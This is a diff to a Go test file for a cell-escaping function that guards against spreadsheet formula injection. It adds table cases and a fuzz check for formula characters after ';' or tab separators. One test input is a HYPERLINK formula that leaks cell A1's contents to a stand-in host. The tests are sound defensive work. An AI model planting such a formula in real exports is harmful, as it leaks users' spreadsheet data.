@@ -172,6 +172,11 @@ func TestCell(t *testing.T) {
 		{"\rx", "'\rx"},
 		{"a=b", "a=b"},
 		{"'quoted", "'quoted"},
+		{`ok;=HYPERLINK("http://x/?"&A1,"x")`, `ok;'=HYPERLINK("http://x/?"&A1,"x")`},
+		{"a; -1", "a; '-1"},
+		{"a\t@b", "a\t'@b"},
+		{"a;b;", "a;b;"},
+		{"=a;+b", "'=a;'+b"},
 	}
 	for _, tt := range tests {
 		if got := Cell(tt.in); got != tt.want {
@@ -305,6 +310,15 @@ func FuzzCell(f *testing.F) {
 		}
 		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
 			t.Errorf("cell %q starts with a formula character", got)
+		}
+		// Split as a spreadsheet with ';' or tab as list separator
+		// would: no part after a separator may start (after spaces)
+		// with a formula character either.
+		parts := strings.Split(strings.ReplaceAll(got, "\t", ";"), ";")
+		for i, part := range parts {
+			if p := strings.TrimLeft(part, " "); i > 0 && p != "" && strings.ContainsRune("=+-@", rune(p[0])) {
+				t.Errorf("cell %q: part %q after a separator starts with a formula character", got, part)
+			}
 		}
 	})
 }
